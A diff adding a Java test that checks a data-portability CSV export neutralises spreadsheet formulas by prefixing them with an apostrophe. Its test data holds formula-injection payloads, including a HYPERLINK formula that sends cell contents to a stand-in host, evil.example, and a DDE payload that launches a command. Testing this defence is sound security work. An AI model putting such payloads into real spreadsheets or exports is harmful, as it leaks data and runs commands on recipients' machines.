@@ -90,6 +90,36 @@ class PortabilityTest {
         assertThat(json.get("notPortable").get(0).asText()).isEqualTo(communication);
     }
 
+    @org.junit.jupiter.api.Test
+    void aSpreadsheetFormulaInTheDataArrivesNeutralisedInTheCsv() throws Exception {
+        DepartmentWork work = new DepartmentWork(tasks, management);
+        String reference = Requests.confirmed(intake, management, process, new NewRequest("PORTABILITY", "Mallory Formula",
+                "mallory@example.com", "SE", "en", List.of("contact"), null));
+        List<String> cells = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)");
+        List<Task> departments = work.tasks(reference);
+        for (int i = 0; i < departments.size(); i++) {
+            work.complete(departments.get(i), Map.of("found", "yes", "contact",
+                    Map.of("data", cells.get(i % cells.size()), "source", "=cmd")));
+        }
+        work.approve(reference);
+
+        List<List<String>> rows = parseCsv(csv(Mails.text(Mails.lastAbout(greenMail, reference))));
+        List<String> data = rows.subList(1, rows.size()).stream().map(row -> row.get(2)).toList();
+        assertThat(data).hasSize(departments.size()).allSatisfy(cell -> assertThat(cell).startsWith("'"));
+        assertThat(data).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0",
+                "'-2+3", "'@SUM(1+1)");
+        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row.get(3)).isEqualTo("'=cmd"));
+    }
+
+    /** The CSV behind the answer email's download link, as the person downloads it. */
+    private String csv(String answer) {
+        String csvPath = Mails.linkPath(answer, "/download/file\\?token=[A-Za-z0-9_-]+&format=csv");
+        Http.Response csv = new Http(port).get(csvPath);
+        assertThat(csv.status()).isEqualTo(200);
+        return csv.body();
+    }
+
     /** RFC 4180: quoted fields, doubled quotes, CRLF between records, line breaks inside quotes. */
     static List<List<String>> parseCsv(String text) {
         List<List<String>> rows = new ArrayList<>();
